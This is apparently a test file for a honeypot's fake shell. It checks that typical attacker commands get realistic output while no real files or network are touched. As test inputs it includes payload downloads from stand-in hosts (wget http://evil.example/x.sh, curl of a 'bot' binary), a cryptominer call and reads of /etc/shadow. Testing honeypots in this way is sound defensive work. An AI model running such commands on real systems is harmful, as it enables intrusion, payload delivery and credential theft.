"""The fake shell: what attackers' first commands print, and that nothing real is touched."""

from __future__ import annotations

import socket
from datetime import UTC, datetime

import pytest

from infrastructure.emulators.shell import FakeFS, Shell, build_machine
from infrastructure.emulators.shell.fs import MAX_FILE_BYTES
from infrastructure.emulators.shell.login import LoginPolicy

NOW = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def make_shell(user: str = "root", distro: str = "ubuntu-22.04", *, login: bool = True) -> Shell:
    """A shell on a fixed machine `web-01` at 10.1.2.3 with one account, `deploy`."""
    machine = build_machine("web-01", "10.1.2.3", distro, ("deploy",), NOW)
    return Shell(machine, user, client_ip="198.51.100.7", login=login, now=lambda: NOW)


def out(shell: Shell, line: str) -> str:
    """What one line prints."""
    return shell.run(line).text


@pytest.mark.parametrize(
    ("distro", "expected"),
    [
        ("ubuntu-22.04", "Linux web-01 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC "
         "2024 x86_64 x86_64 x86_64 GNU/Linux\n"),
        ("alpine-3.19", "Linux web-01 6.6.16-0-lts #1-Alpine SMP PREEMPT_DYNAMIC Fri, 09 Feb 2024 "
         "06:18:55 +0000 x86_64 Linux\n"),
        ("freebsd-14", "FreeBSD web-01 14.0-RELEASE releng/14.0-n265380-f9716eee8ab4 GENERIC "
         "amd64\n"),
        ("windows-10", "Linux web-01 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC "
         "2024 x86_64 x86_64 x86_64 GNU/Linux\n"),
    ],
)  # fmt: skip
def test_uname_matches_the_distro(distro: str, expected: str) -> None:
    """`uname -a` is the decky distro's kernel line (Windows deckies fall back to Ubuntu)."""
    assert out(make_shell(distro=distro), "uname -a") == expected


def test_os_release_names_the_distro() -> None:
    """/etc/os-release carries the distro's pretty name."""
    assert 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' in out(
        make_shell(distro="debian-12"), "cat /etc/os-release"
    )


def test_prompt_shows_user_host_cwd_and_privilege() -> None:
    """`user@host:cwd#` for root, `$` for others, with the home directory as `~`."""
    root, user = make_shell(), make_shell("deploy")
    assert root.prompt() == "root@web-01:~# "
    assert user.prompt() == "deploy@web-01:~$ "
    user.run("cd /var/log")
    assert user.prompt() == "deploy@web-01:/var/log$ "


def test_identity_commands() -> None:
    """`id`, `whoami` and `pwd` agree with the login."""
    shell = make_shell("deploy")
    assert out(shell, "id") == "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),100(users)\n"
    assert out(shell, "whoami; pwd") == "deploy\n/home/deploy\n"


def test_cd_into_missing_directory_fails_like_bash() -> None:
    """A missing directory leaves cwd unchanged with bash's message."""
    shell = make_shell()
    outcome = shell.run("cd /nope")
    assert (outcome.text, outcome.status) == ("-bash: cd: /nope: No such file or directory\n", 1)
    assert out(shell, "pwd") == "/root\n"


def test_dotdot_never_leaves_the_fake_root() -> None:
    """`..` past `/` stays at `/`; relative reads resolve inside the fake tree."""
    shell = make_shell()
    shell.run("cd ../../../../..")
    assert out(shell, "pwd") == "/\n"
    assert out(shell, "cat ../../etc/hostname") == "web-01\n"


def test_ls_long_lists_modes_owners_and_dotfiles() -> None:
    """`ls -la` shows `.`, `..`, hidden files, modes and owners."""
    listing = out(make_shell("deploy"), "ls -la")
    lines = listing.splitlines()
    assert lines[0].startswith("total ")
    assert lines[1].startswith("drwxr-x--- 2 deploy")
    assert lines[1].endswith(" .")
    assert any(line.endswith(" .bashrc") and line.startswith("-rw-r--r--") for line in lines)


def test_ls_missing_path() -> None:
    """`ls` of a missing path says so with status 2."""
    outcome = make_shell().run("ls /secret")
    assert (outcome.text, outcome.status) == (
        "ls: cannot access '/secret': No such file or directory\n",
        2,
    )


def test_shadow_is_readable_by_root_only() -> None:
    """Non-root users get `Permission denied` on /etc/shadow; root sees it."""
    assert out(make_shell("deploy"), "cat /etc/shadow") == ("cat: /etc/shadow: Permission denied\n")
    assert out(make_shell(), "head -n 1 /etc/shadow").startswith("root:$y$")


def test_passwd_lists_the_login_accounts() -> None:
    """/etc/passwd has root, system accounts and the configured account."""
    passwd = out(make_shell(), "cat /etc/passwd")
    assert passwd.startswith("root:x:0:0:root:/root:/bin/bash\n")
    assert "deploy:x:1000:1000:deploy,,,:/home/deploy:/bin/bash\n" in passwd


def test_redirection_writes_into_the_fake_tree() -> None:
    """`echo > file` is readable back in the session and appears in `ls`."""
    shell = make_shell()
    shell.run("cd /tmp && echo payload > x.sh && echo more >> x.sh")
    assert out(shell, "cat x.sh") == "payload\nmore\n"
    assert "x.sh" in out(shell, "ls /tmp")


def test_session_writes_are_capped() -> None:
    """A write past the per-file cap fails with `No space left on device`."""
    shell = make_shell()
    messages = {out(shell, "cat /proc/cpuinfo /etc/passwd >> /tmp/big") for _ in range(60)}
    assert messages == {"", "-bash: /tmp/big: No space left on device\n"}
    big = shell.state.fs.get("/tmp/big")
    assert big is not None
    assert MAX_FILE_BYTES / 2 < big.size <= MAX_FILE_BYTES


def test_unknown_command_in_login_and_exec_shells() -> None:
    """Unknown commands get bash's message and status 127 (ash says `not found`)."""
    login = make_shell().run("xmrig --donate-level 1")
    assert (login.text, login.status) == ("-bash: xmrig: command not found\n", 127)
    assert out(make_shell(login=False), "xmrig") == "bash: xmrig: command not found\n"
    assert out(make_shell(distro="alpine-3.19"), "xmrig") == "-ash: xmrig: not found\n"


def test_connectors_follow_exit_status() -> None:
    """`&&` runs after success only, `||` after failure only, `;` always."""
    assert out(make_shell(), "false && echo a || echo b; echo c") == "b\nc\n"
    assert out(make_shell(), "true && echo a || echo b") == "a\n"


def test_pipes_and_text_filters() -> None:
    """Pipelines feed stdout along: grep, wc, head, awk as one-liners use them."""
    shell = make_shell()
    assert out(shell, "cat /proc/cpuinfo | grep 'model name' | wc -l") == "2\n"
    assert out(shell, "cat /etc/passwd | head -n 2 | awk -F: '{print $1}'") == "root\ndaemon\n"
    assert out(shell, "echo $(whoami)@$(hostname)") == "root@web-01\n"


def test_network_commands_show_the_decky_address() -> None:
    """`ifconfig` and `ip a` show the decky's IP on eth0."""
    shell = make_shell()
    assert "inet 10.1.2.3  netmask 255.255.255.0  broadcast 10.1.2.255" in out(shell, "ifconfig")
    assert "inet 10.1.2.3/24 brd 10.1.2.255 scope global eth0" in out(shell, "ip a")


def test_downloads_fail_without_touching_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """wget/curl/ping fail plausibly while every socket call is forbidden."""

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("the fake shell opened a socket")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, forbidden)
    shell = make_shell()
    wget = shell.run("wget http://evil.example/x.sh")
    assert wget.status == 4
    assert wget.text.endswith("wget: unable to resolve host address \u2018evil.example\u2019\n")
    curl = shell.run("curl -O http://203.0.113.5:8080/bot")
    assert curl.text.startswith("curl: (7) Failed to connect to 203.0.113.5 port 8080")
    assert shell.run("curl -s http://evil.example/").text == ""
    assert "100% packet loss" in out(shell, "ping -c 4 203.0.113.5")


def test_history_and_exit() -> None:
    """`history` numbers earlier lines; `exit` ends the session."""
    shell = make_shell()
    shell.run("id")
    assert out(shell, "history") == "    1  id\n    2  history\n"
    assert not shell.finished
    assert out(shell, "exit") == "logout\n"
    assert shell.finished


def test_sudo_needs_root() -> None:
    """Non-root `sudo` is refused as a sudoers file would; root runs the command."""
    assert "is not in the sudoers file" in out(make_shell("deploy"), "sudo id")
    assert out(make_shell(), "sudo id") == "uid=0(root) gid=0(root) groups=0(root)\n"


def test_self_running_script_is_bounded() -> None:
    """A script that runs itself stops at the nesting limit instead of recursing forever."""
    shell = make_shell()
    shell.run("printf '#!/bin/sh\\n/tmp/loop.sh\\n' > /tmp/loop.sh")
    assert "maximum nesting level exceeded" in out(shell, "/tmp/loop.sh")


def test_syntax_error_is_reported() -> None:
    """An unterminated quote is a syntax error, not a crash."""
    outcome = make_shell().run('echo "unterminated')
    assert outcome.status == 2
    assert "unexpected EOF" in outcome.text


def test_binary_upload_cannot_execute() -> None:
    """Running an uploaded binary fails the way a wrong-architecture ELF does."""
    shell = make_shell()
    shell.state.fs.write("/tmp/kworker", "\x7fELF", size=812_000)
    assert out(shell, "/tmp/kworker") == (
        "-bash: /tmp/kworker: cannot execute binary file: Exec format error\n"
    )


def test_each_session_has_its_own_tree() -> None:
    """Files written in one session do not appear in another."""
    machine = build_machine("web-01", "10.1.2.3", "ubuntu-22.04", (), NOW)
    first, second = FakeFS(machine, "root"), FakeFS(machine, "root")
    first.write("/tmp/a", "x")
    assert second.get("/tmp/a") is None


@pytest.mark.parametrize(
    ("config", "pair", "accepted"),
    [
        ({}, ("root", "root"), False),
        ({"password": "toor"}, ("anyone", "toor"), True),
        ({"password": "toor"}, ("root", "toor2"), False),
        ({"users": "deploy:s3cret,admin:Admin123"}, ("admin", "Admin123"), True),
        ({"users": "deploy:s3cret,admin:Admin123"}, ("admin", "s3cret"), False),
    ],
)
def test_login_policy(config: dict[str, str], pair: tuple[str, str], accepted: bool) -> None:
    """Nobody by default; `password` for any name; `users` for exactly those pairs."""
    assert LoginPolicy.from_config(config).accepts(*pair) is accepted
